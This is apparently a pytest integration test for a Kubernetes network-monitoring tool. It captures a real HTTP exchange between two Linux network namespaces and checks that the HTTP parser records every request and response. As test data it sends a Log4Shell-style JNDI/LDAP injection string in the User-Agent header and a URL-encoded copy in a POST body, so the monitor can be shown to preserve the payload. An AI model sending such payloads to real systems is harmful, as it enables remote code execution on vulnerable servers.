"""A real HTTP exchange between two network namespaces, captured by dumpcap, parsed back.

Python's http.server (keep-alive HTTP/1.1, plus a chunked echo for POST) serves; http.client
asks; dumpcap captures on the server's veth. The parser must see every request and response.
"""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from kubectl_netmon.capture.l7.events import HttpRequest, HttpResponse
from kubectl_netmon.capture.l7.http import RESPONSE_BODY_LIMIT
from tests.capture.l7.streams import parse_stream, read_streams

SERVER_IP, CLIENT_IP, PORT = "10.77.7.2", "10.77.7.1", 8000
PAYLOAD_UA = "${jndi:ldap://10.77.7.1:1389/a}"
POST_BODY = b"user=a&comment=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D" * 40

SERVER = """
import http.server, sys

class Handler(http.server.SimpleHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(200)
        self.send_header("Content-Type", "application/octet-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        for i in range(0, len(body), 500):
            piece = body[i:i + 500]
            self.wfile.write(b"%x\\r\\n" % len(piece) + piece + b"\\r\\n")
        self.wfile.write(b"0\\r\\n\\r\\n")

server = http.server.HTTPServer((sys.argv[1], int(sys.argv[2])), Handler)
print("ready", flush=True)
server.serve_forever()
"""

CLIENT = f"""
import http.client
c = http.client.HTTPConnection({SERVER_IP!r}, {PORT})
for method, path, body, headers in [
        ("GET", "/hello.txt", None, {{"User-Agent": {PAYLOAD_UA!r}}}),
        ("HEAD", "/hello.txt", None, {{}}),
        ("POST", "/echo", {POST_BODY!r}, {{"Content-Type": "application/x-www-form-urlencoded"}}),
        ("GET", "/missing", None, {{}})]:
    c.request(method, path, body=body, headers=headers)
    c.getresponse().read()
c.close()
"""


def sh(*args: str) -> None:
    subprocess.run(args, check=True, capture_output=True)


def wait_for(condition, what: str, timeout: float = 30.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            raise AssertionError(f"gave up waiting for {what}")
        time.sleep(0.1)


@pytest.fixture(scope="module")
def namespaces(root):
    """Two namespaces joined by a veth pair: (client ns, server ns), removed afterwards."""
    tag = f"nml7-{os.getpid()}"
    client, server = f"{tag}-c", f"{tag}-s"
    try:
        sh("ip", "netns", "add", client)
        sh("ip", "netns", "add", server)
        sh("ip", "link", "add", "nml7c", "netns", client, "type", "veth",
           "peer", "name", "nml7s", "netns", server)
        for ns, dev, ip in ((client, "nml7c", CLIENT_IP), (server, "nml7s", SERVER_IP)):
            sh("ip", "-n", ns, "addr", "add", f"{ip}/24", "dev", dev)
            sh("ip", "-n", ns, "link", "set", dev, "up")
            sh("ip", "-n", ns, "link", "set", "lo", "up")
        yield client, server
    finally:
        for ns in (client, server):
            subprocess.run(["ip", "netns", "del", ns], capture_output=True)


@pytest.fixture(scope="module")
def processes():
    """Start processes that are stopped (by their own pid) when the test ends."""
    started: list[subprocess.Popen] = []

    def start(*args: str, **kwargs) -> subprocess.Popen:
        proc = subprocess.Popen(args, text=True, **kwargs)
        started.append(proc)
        return proc

    yield start
    for proc in started:
        if proc.poll() is None:
            proc.terminate()
            proc.wait(timeout=30)


def fins_captured(tshark: str, pcap: Path) -> int:
    out = subprocess.run([tshark, "-r", str(pcap), "-Y", "tcp.flags.fin==1"],
                         capture_output=True, text=True).stdout
    return len(out.splitlines())


@pytest.fixture(scope="module")
def exchange(namespaces, processes, tshark, tmp_path_factory) -> Path:
    """Run the exchange under dumpcap; the capture file once both sides have closed."""
    tmp_path = tmp_path_factory.mktemp("exchange")
    if not shutil.which("dumpcap"):
        pytest.skip("dumpcap is not installed (scripts/setup installs it)")
    client, server = namespaces
    (tmp_path / "www").mkdir()
    (tmp_path / "www" / "hello.txt").write_bytes(b"hello from the server\n")
    (tmp_path / "server.py").write_text(SERVER)
    web = processes("ip", "netns", "exec", server, sys.executable, str(tmp_path / "server.py"),
                    SERVER_IP, str(PORT), cwd=tmp_path / "www", stdout=subprocess.PIPE,
                    stderr=subprocess.DEVNULL)
    assert web.stdout.readline().strip() == "ready"
    pcap = tmp_path / "exchange.pcapng"
    dumpcap = processes("ip", "netns", "exec", server, "dumpcap", "-i", "nml7s", "-f",
                        f"tcp port {PORT}", "-w", str(pcap), stderr=subprocess.PIPE)
    wait_for(lambda: "Capturing on" in dumpcap.stderr.readline(), "dumpcap to start")
    sh("ip", "netns", "exec", client, sys.executable, "-c", CLIENT)
    wait_for(lambda: fins_captured(tshark, pcap) >= 2, "both FINs in the capture")
    dumpcap.send_signal(signal.SIGINT)
    dumpcap.wait(timeout=30)
    return pcap


def test_real_exchange_requests_and_responses(exchange):
    [stream] = read_streams(str(exchange))
    service, events = parse_stream(stream)
    requests = [(e.method, e.uri, e.host, e.body) for e in events if isinstance(e, HttpRequest)]
    responses = [(e.status, e.content_type, e.body, e.body_len)
                 for e in events if isinstance(e, HttpResponse)]
    host = f"{SERVER_IP}:{PORT}"
    assert service == "http"
    assert requests == [("GET", "/hello.txt", host, b""), ("HEAD", "/hello.txt", host, b""),
                        ("POST", "/echo", host, POST_BODY), ("GET", "/missing", host, b"")]
    hello = b"hello from the server\n"
    assert responses[:3] == [(200, "text/plain", hello[:RESPONSE_BODY_LIMIT], len(hello)),
                             (200, "text/plain", b"", 0),
                             (200, "application/octet-stream",
                              POST_BODY[:RESPONSE_BODY_LIMIT], len(POST_BODY))]
    assert responses[3][0] == 404


def test_real_exchange_payload_header_kept(exchange):
    [stream] = read_streams(str(exchange))
    first = parse_stream(stream)[1][0]
    assert first.user_agent == PAYLOAD_UA
    assert ("user-agent", PAYLOAD_UA) in first.headers
